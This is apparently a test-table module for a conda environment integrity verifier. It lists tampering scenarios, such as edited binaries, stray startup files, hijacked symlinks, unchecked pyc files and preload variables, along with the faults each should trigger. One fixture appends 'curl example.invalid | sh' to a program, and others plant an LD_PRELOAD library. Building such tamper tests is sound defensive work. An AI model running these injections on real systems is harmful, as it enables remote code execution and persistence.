@@ -1,0 +1,477 @@
+"""What may have been done to an environment, and what verify has to say of each: the table of tamper_scenario.py.
+
+A row is a function over a restored World; `strong` are the faults, as (code, path or package), with all archives at hand; `weak` those without any.
+Either must be all the faults there are. The exit codes follow: with a fault 1; without one, an environment without archives is 2, or 0 with --allow-weak.
+A weak answer of BLIND is what docs/verify.md admits: who edits a file and its record alike is not found without the archive.
+"""
+import hashlib
+import importlib.util
+import json
+import os
+import py_compile
+import shutil
+
+from channelkit.package import BINARY_PLACEHOLDER
+from tamper_support import SHORT, SITE, STEMS, TAG, archives, flip_bit, other_channel, world_channel
+
+TABLE = []
+BLIND = frozenset()
+STDLIB = f"lib/python{SHORT}"
+
+
+def tampering(what, strong, weak="the same"):
+    def add(act):
+        TABLE.append((what, act, set(strong), set(strong) if weak == "the same" else set(weak)))
+        return act
+    return add
+
+
+# Bytes.
+
+@tampering("one bit of a shared object is flipped", [("file-differs", "lib/libplain.so.1")])
+def _(world):
+    flip_bit(world.prefix / "lib/libplain.so.1", 700)
+
+
+@tampering("a shared object is edited, and conda-meta alike", [("file-differs", "lib/libplain.so.1")], BLIND)
+def _(world):
+    flip_bit(world.prefix / "lib/libplain.so.1")
+    world.confess("plain", "lib/libplain.so.1")
+
+
+@tampering("bytes are appended to a program", [("file-differs", "bin/plain")])
+def _(world):
+    with open(world.prefix / "bin/plain", "a") as file:
+        file.write("curl example.invalid | sh\n")
+
+
+@tampering("a data file is truncated", [("file-differs", "share/plain/weights.bin")])
+def _(world):
+    os.truncate(world.prefix / "share/plain/weights.bin", 5000)
+
+
+@tampering("a data file is emptied", [("file-differs", "share/plain/weights.bin")])
+def _(world):
+    os.truncate(world.prefix / "share/plain/weights.bin", 0)
+
+
+@tampering("a file is changed, and has its old time and size", [("file-differs", "share/plain/weights.bin")])
+def _(world):
+    path = world.prefix / "share/plain/weights.bin"
+    before = path.stat()
+    flip_bit(path)
+    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+
+
+@tampering("a text with a placeholder is edited", [("file-differs", "share/hello/settings.ini")])
+def _(world):
+    path = world.prefix / "share/hello/settings.ini"
+    path.write_text(path.read_text().replace("/share\n", "/tmp\n"))
+
+
+@tampering("a text with a placeholder is edited, and conda-meta alike", [("file-differs", "share/hello/settings.ini")], BLIND)
+def _(world):
+    path = world.prefix / "share/hello/settings.ini"
+    path.write_text(path.read_text().replace("/share\n", "/tmp\n"))
+    world.confess("hello", "share/hello/settings.ini")
+
+
+@tampering("a text with a placeholder has another place in it", [("prefix-moved", "bin/hello")], [("file-differs", "bin/hello")])
+def _(world):
+    path = world.prefix / "bin/hello"
+    path.write_text(path.read_text().replace(str(world.prefix), "/somewhere/else"))
+
+
+@tampering("a placeholder was never replaced in a binary", [("file-differs", "lib/libhello.so.2.0")])
+def _(world):
+    path = world.prefix / "lib/libhello.so.2.0"
+    gap = len(BINARY_PLACEHOLDER) - len(str(world.prefix))
+    path.write_bytes(path.read_bytes().replace(str(world.prefix).encode() + bytes(gap), BINARY_PLACEHOLDER.encode(), 1))
+
+
+@tampering("something is written into the padding behind a replaced prefix", [("file-differs", "lib/libhello.so.2.0")])
+def _(world):
+    path = world.prefix / "lib/libhello.so.2.0"
+    data = path.read_bytes()
+    at = data.index(str(world.prefix).encode() + bytes(9)) + len(str(world.prefix)) + 2
+    path.write_bytes(data[:at] + b"evil" + data[at + 4:])
+
+
+@tampering("the placeholder in conda-meta is another, and the file was edited to fit", [("file-differs", "share/hello/settings.ini")], BLIND)
+def _(world):
+    path = world.prefix / "share/hello/settings.ini"
+    path.write_text(path.read_text() + "root = /tmp\n")
+    world.confess("hello", "share/hello/settings.ini")
+
+    def edit(data):
+        for row in data["paths_data"]["paths"]:
+            if row["_path"] == "share/hello/settings.ini":
+                row["prefix_placeholder"] = "/tmp"
+    world.edit_meta("hello", edit)
+
+
+@tampering("the script of an entry point is edited", [("file-differs", "bin/toytool")], [("file-differs", "bin/toytool")])
+def _(world):
+    path = world.prefix / "bin/toytool"
+    path.write_text(path.read_text().replace("import sys\n", "import sys, antigravity\n", 1))
+
+
+@tampering("the script of an entry point is edited, and conda-meta alike", [("file-differs", "bin/toytool")], BLIND)
+def _(world):
+    path = world.prefix / "bin/toytool"
+    path.write_text(path.read_text().replace("import sys\n", "import sys, antigravity\n", 1))
+
+    def edit(data):
+        for row in data["paths_data"]["paths"]:
+            if row["_path"] == "bin/toytool":
+                row["path_type"] = "hardlink"
+                row["sha256"] = row["sha256_in_prefix"] = hashlib.sha256(path.read_bytes()).hexdigest()
+    world.edit_meta("toytool", edit)
+
+
+# What stands there.
+
+@tampering("a file is removed", [("file-missing", "share/plain/readme.txt")])
+def _(world):
+    (world.prefix / "share/plain/readme.txt").unlink()
+
+
+@tampering("a file is removed, and its name from conda-meta", [("file-missing", "share/plain/readme.txt")], BLIND)
+def _(world):
+    (world.prefix / "share/plain/readme.txt").unlink()
+    forget(world, "plain", "share/plain/readme.txt")
+
+
+@tampering("a module is edited, and its name taken out of conda-meta", [("file-differs", f"{SITE}/toytool/cli.py")], [("stranger-module", f"{SITE}/toytool/cli.py")])
+def _(world):
+    (world.prefix / SITE / "toytool/cli.py").write_text("import os\n")
+    forget(world, "toytool", f"{SITE}/toytool/cli.py")
+
+
+def forget(world, name, path):
+    def edit(data):
+        data["files"].remove(path)
+        data["paths_data"]["paths"] = [row for row in data["paths_data"]["paths"] if row["_path"] != path]
+    world.edit_meta(name, edit)
+
+
+@tampering("a symlink points to another file", [("link-differs", "lib/libplain.so")], BLIND)
+def _(world):
+    relink(world.prefix / "lib/libplain.so", "plain/plugin.so")
+
+
+@tampering("a symlink points out of the prefix", [("link-differs", "lib/libhello.so")], BLIND)
+def _(world):
+    relink(world.prefix / "lib/libhello.so", world.home / "libhello.so")
+
+
+@tampering("a symlink is now a copy of its target", [("file-type-differs", "lib/libplain.so")])
+def _(world):
+    path = world.prefix / "lib/libplain.so"
+    path.unlink()
+    shutil.copy(world.prefix / "lib/libplain.so.1", path)
+
+
+@tampering("a file is now a symlink to an equal one elsewhere", [("file-type-differs", "share/plain/weights.bin")])
+def _(world):
+    path = world.prefix / "share/plain/weights.bin"
+    shutil.move(path, world.home / "weights.bin")
+    path.symlink_to(world.home / "weights.bin")
+
+
+@tampering("a file is now a folder", [("file-type-differs", "share/plain/readme.txt")])
+def _(world):
+    path = world.prefix / "share/plain/readme.txt"
+    path.unlink()
+    path.mkdir()
+
+
+@tampering("a file is now a pipe", [("file-type-differs", "share/plain/readme.txt")])
+def _(world):
+    path = world.prefix / "share/plain/readme.txt"
+    path.unlink()
+    os.mkfifo(path)
+
+
+@tampering("a symlink of a library goes in a circle", [("link-differs", "lib/libplain.so")], BLIND)
+def _(world):
+    relink(world.prefix / "lib/libplain.so", "libplain.so")
+
+
+@tampering("a folder of a package is now a symlink to a copy outside", [("file-missing", "share/plain/readme.txt"), ("file-missing", "share/plain/weights.bin")])
+def _(world):
+    shutil.move(world.prefix / "share/plain", world.home / "plain")
+    (world.prefix / "share/plain").symlink_to(world.home / "plain")
+
+
+def relink(path, target):
+    path.unlink()
+    path.symlink_to(target)
+
+
+# Modes.
+
+@tampering("a program can no longer be executed", [("file-mode-differs", "bin/plain")], BLIND)
+def _(world):
+    (world.prefix / "bin/plain").chmod(0o644)
+
+
+@tampering("a data file can be executed", [("file-mode-differs", "share/plain/weights.bin")], BLIND)
+def _(world):
+    (world.prefix / "share/plain/weights.bin").chmod(0o755)
+
+
+@tampering("everybody may write to a library", [("file-mode-differs", "lib/libplain.so.1")], BLIND)
+def _(world):
+    (world.prefix / "lib/libplain.so.1").chmod(0o777)
+
+
+@tampering("a program runs with its owner's rights", [("file-mode-differs", "bin/plain")])
+def _(world):
+    (world.prefix / "bin/plain").chmod(0o4755)
+
+
+# Strangers.
+
+def stranger(what, code, path, content="evil\n", named=None):
+    @tampering(what, [(code, named or path)])
+    def _(world):
+        at = world.prefix / path
+        at.parent.mkdir(parents=True, exist_ok=True)
+        at.write_text(content)
+
+
+stranger("a stray .pth", "stranger-startup", f"{SITE}/zz.pth", "import os; os.environ['X'] = '1'\n")
+stranger("a stray sitecustomize.py", "stranger-startup", f"{SITE}/sitecustomize.py")
+stranger("a stray usercustomize.py beside the standard library", "stranger-startup", f"{STDLIB}/usercustomize.py")
+stranger("a stray pyvenv.cfg", "stranger-startup", "pyvenv.cfg", "home = /usr/bin\n")
+stranger("a stray library", "stranger-library", "lib/libevil.so")
+stranger("a stray library that the loader prefers", "stranger-library", "lib/glibc-hwcaps/x86-64-v3/libplain.so.1")
+stranger("a zip that python imports from before its standard library", "stranger-library", f"lib/python{SHORT.replace('.', '')}.zip")
+stranger("a stray program", "stranger-program", "bin/ls", "#!/bin/sh\n")
+stranger("a stray activation script", "stranger-activation", "etc/conda/activate.d/zz.sh")
+stranger("a stray deactivation script", "stranger-activation", "etc/conda/deactivate.d/zz.sh")
+stranger("a stray file of variables", "stranger-activation", "etc/conda/env_vars.d/zz.json", "{}\n")
+stranger("a stray module", "stranger-module", f"{SITE}/numpy.py")
+stranger("a stray package", "stranger-module", f"{SITE}/numpy/__init__.py", named=f"{SITE}/numpy")
+stranger("a stray module within a package", "stranger-module", f"{SITE}/toytool/extra.py")
+stranger("a stray compiled module beside a source, which python prefers", "stranger-library", f"{SITE}/toytool/cli.abi3.so")
+stranger("a stray module of the standard library", "stranger-module", f"{STDLIB}/antigravity.py")
+stranger("a library under the name of another in capitals", "stranger-library", "lib/LIBPLAIN.so.1")
+stranger("a package under the name of another in capitals", "stranger-module", f"{SITE}/Toytool/__init__.py", named=f"{SITE}/Toytool")
+stranger("a stray direct_url.json in the dist-info of conda", "stranger-module", f"{SITE}/toytool-1.1.dist-info/direct_url.json", "{}\n")
+
+
+@tampering("a stray symlink to a program outside", [("stranger-program", "bin/cc")])
+def _(world):
+    (world.prefix / "bin/cc").symlink_to("/usr/bin/env")
+
+
+@tampering("a stray symlink to a package outside", [("stranger-module", f"{SITE}/torch")])
+def _(world):
+    (world.prefix / SITE / "torch").symlink_to(world.home)
+
+
+@tampering("a stray pipe where modules lie", [("stranger-module", f"{SITE}/queue.py")])
+def _(world):
+    os.mkfifo(world.prefix / SITE / "queue.py")
+
+
+# Bytecode.
+
+@tampering("a pyc with an unchecked hash that is not its source's", [("pyc-unchecked", f"{SITE}/toytool/__pycache__/cli.{TAG}.pyc")])
+def _(world):
+    evil = world.folder / "evil.py"
+    evil.write_text("print('evil')\n")
+    cached = world.prefix / SITE / f"toytool/__pycache__/cli.{TAG}.pyc"
+    py_compile.compile(str(evil), str(cached), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+
+
+@tampering("an optimized pyc of that kind", [("pyc-unchecked", f"{STDLIB}/__pycache__/os.{TAG}.opt-2.pyc")])
+def _(world):
+    evil = world.folder / "evil.py"
+    evil.write_text("print('evil')\n")
+    cached = world.prefix / STDLIB / f"__pycache__/os.{TAG}.opt-2.pyc"
+    py_compile.compile(str(evil), str(cached), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+
+
+@tampering("a module without source", [("pyc-without-source", f"{SITE}/json5.pyc")])
+def _(world):
+    (world.prefix / SITE / "json5.pyc").write_bytes(importlib.util.MAGIC_NUMBER + bytes(12) + b"N")
+
+
+# Pip.
+
+@tampering("pip upgraded a package of conda", [("distribution-replaces-conda", f"{SITE}/toytool-1.2.dist-info")])
+def _(world):
+    site = world.prefix / SITE
+    shutil.rmtree(site / "toytool")
+    shutil.rmtree(site / "toytool-1.1.dist-info")
+    (world.prefix / "bin/toytool").unlink()
+    world.pip_files("toytool", "1.2", {"toytool/__init__.py": '__version__ = "1.2"\n', "toytool/cli.py": "def main():\n    return 4\n",
+                                       "toytool/new.py": "", "../../../bin/toytool": "#!/bin/sh\necho 1.2\n"})
+    (world.prefix / "bin/toytool").chmod(0o755)
+
+
+@tampering("pip installed another distribution", [("distribution-extra", f"{SITE}/wandb-0.1.dist-info")])
+def _(world):
+    world.pip_files("wandb", "0.1", {"wandb/__init__.py": "", "../../../bin/wandb": "#!/bin/sh\n"})
+
+
+@tampering("pip installed a distribution and it was edited later", [("distribution-extra", f"{SITE}/wandb-0.1.dist-info"), ("distribution-file-differs", f"{SITE}/wandb/__init__.py")])
+def _(world):
+    world.pip_files("wandb", "0.1", {"wandb/__init__.py": ""})
+    (world.prefix / SITE / "wandb/__init__.py").write_text("import os\n")
+
+
+@tampering("an editable install", [("distribution-extra", f"{SITE}/mine-0.1.dist-info"), ("distribution-editable", f"{SITE}/mine-0.1.dist-info")])
+def _(world):
+    world.pip_files("mine", "0.1", {"__editable__.mine-0.1.pth": f"{world.home}\n"},
+                    {"mine-0.1.dist-info/direct_url.json": json.dumps({"url": f"file://{world.home}", "dir_info": {"editable": True}})})
+
+
+# Packages.
+
+@tampering("the record of a package is removed", [("package-not-installed", "plain")],
+           [("package-not-installed", "plain"), ("stranger-program", "bin/plain"), ("stranger-library", "lib/libplain.so"), ("stranger-library", "lib/libplain.so.1"),
+            ("stranger-library", "lib/plain/plugin.so")])
+def _(world):
+    world.meta("plain").unlink()
+
+
+@tampering("another package is installed", [("package-extra", "scripted")])
+def _(world):
+    world.recreate(archives(world_channel(), *STEMS, "scripted-1.0-0"))
+
+
+@tampering("another version is installed", [("package-differs", "greet-data"), ("package-differs", "hello")])
+def _(world):
+    world.recreate(archives(world_channel(), *(s.replace("hello-2.0", "hello-1.0").replace("greet-data-2.0", "greet-data-1.0") for s in STEMS)))
+
+
+@tampering("another build of the version is installed", [("package-differs", "hello")])
+def _(world):
+    world.recreate(archives(world_channel(), *(s.replace("hello-2.0-0", "hello-2.0-old_0") for s in STEMS)))
+
+
+PLAIN_FILES = [("file-differs", "bin/plain"), ("file-differs", "lib/libplain.so.1"), ("file-differs", "lib/plain/plugin.so")]
+
+
+@tampering("a package is installed from another file of the same name, of another channel", [("package-hash-differs", "plain"), *PLAIN_FILES],
+           [("package-hash-differs", "plain")])
+def _(world):
+    install_other_plain(world)
+
+
+@tampering("the same, and conda-meta says that it is the locked one", PLAIN_FILES, BLIND)
+def _(world):
+    honest = json.loads(world.meta("plain").read_text())
+    install_other_plain(world)
+    world.edit_meta("plain", lambda data: data.update({key: honest[key] for key in ("sha256", "md5", "size", "channel", "url")}))
+
+
+def install_other_plain(world):
+    world.recreate([*archives(world_channel(), *(s for s in STEMS if s != "plain-1.0-0")), *archives(other_channel(), "plain-1.0-0")])
+
+
+@tampering("two records of one package", [("package-differs", "plain"), ("package-twice", "plain")])
+def _(world):
+    path = world.meta("plain")
+    data = json.loads(path.read_text())
+    data["build"], data["build_number"] = "1", 1
+    (path.parent / "plain-1.0-1.json").write_text(json.dumps(data))
+
+
+@tampering("a record is no JSON any more", [("conda-meta-invalid", ""), ("package-not-installed", "plain")],
+           [("conda-meta-invalid", ""), ("package-not-installed", "plain"), ("stranger-program", "bin/plain"), ("stranger-library", "lib/libplain.so"),
+            ("stranger-library", "lib/libplain.so.1"), ("stranger-library", "lib/plain/plugin.so")])
+def _(world):
+    os.truncate(world.meta("plain"), 100)
+
+
+@tampering("an install left its journal", [("install-interrupted", "")])
+def _(world):
+    (world.prefix / "conda-meta/.envlock").mkdir()
+    (world.prefix / "conda-meta/.envlock/journal").write_text("begun\n")
+
+
+@tampering("activation sets a variable to another value", [("state-differs", "conda-meta/state")])
+def _(world):
+    (world.prefix / "conda-meta/state").write_text(json.dumps({"env_vars": {"MODE": "quiet"}}))
+
+
+@tampering("activation sets one more variable", [("state-differs", "conda-meta/state")])
+def _(world):
+    (world.prefix / "conda-meta/state").write_text(json.dumps({"env_vars": {"MODE": "loud", "LD_PRELOAD": "/tmp/evil.so"}}))
+
+
+@tampering("the record of variables is gone", [("state-differs", "conda-meta/state")])
+def _(world):
+    (world.prefix / "conda-meta/state").unlink()
+
+
+# Surroundings: what is returned are variables of the process that verifies.
+
+@tampering("LD_PRELOAD is set", [("preload-set", "")])
+def _(world):
+    return {"LD_PRELOAD": "libc.so.6"}
+
+
+@tampering("LD_AUDIT is set", [("preload-set", "")])
+def _(world):
+    return {"LD_AUDIT": str(world.home / "no-such-audit.so")}
+
+
+@tampering("PYTHONPATH is set", [("python-path-set", "")])
+def _(world):
+    return {"PYTHONPATH": str(world.home)}
+
+
+@tampering("PYTHONHOME is set", [("python-home-set", "")])
+def _(world):
+    return {"PYTHONHOME": "/usr"}
+
+
+@tampering("LD_LIBRARY_PATH leads to another library of the name", [("library-path-shadows", "")])
+def _(world):
+    shutil.copy(world.prefix / "lib/libplain.so.1", world.home)
+    return {"LD_LIBRARY_PATH": str(world.home)}
+
+
+@tampering("the user's own site-packages shadow a package", [("user-site-shadows", "")])
+def _(world):
+    site = world.home / ".local" / SITE
+    (site / "toytool").mkdir(parents=True)
+    (site / "toytool/__init__.py").write_text("evil = True\n")
+
+
+@tampering("user site-packages in another place shadow a package", [("user-site-shadows", "")])
+def _(world):
+    (world.home / "base" / SITE / "toytool-9.dist-info").mkdir(parents=True)
+    return {"PYTHONUSERBASE": str(world.home / "base")}
+
+
+@tampering("the environment is active, and a variable of the lock is another", [("variable-differs", "MODE")])
+def _(world):
+    return {"CONDA_PREFIX": str(world.prefix), "MODE": "quiet"}
+
+
+# Folders that are links.
+
+def moved_folder(what, folder, faults):
+    """A folder of the prefix becomes a link to a copy of it within share/, and more is put there."""
+    @tampering(what, faults)
+    def _(world):
+        new = world.prefix / "share/moved"
+        (world.prefix / folder).parent.mkdir(parents=True, exist_ok=True)
+        if (world.prefix / folder).exists():
+            shutil.move(world.prefix / folder, new)
+        else:
+            new.mkdir()
+        (new / "evil.sh").write_text("evil\n")
+        (world.prefix / folder).symlink_to(os.path.relpath(new, (world.prefix / folder).parent))
+
+
+moved_folder("the folder of python is a link to one elsewhere in the prefix, with more in it", STDLIB, [("stranger-library", STDLIB)])
+moved_folder("site-packages is a link", SITE, [("stranger-module", SITE)])
+moved_folder("a package of python is a link", f"{SITE}/toytool", [("stranger-module", f"{SITE}/toytool")])
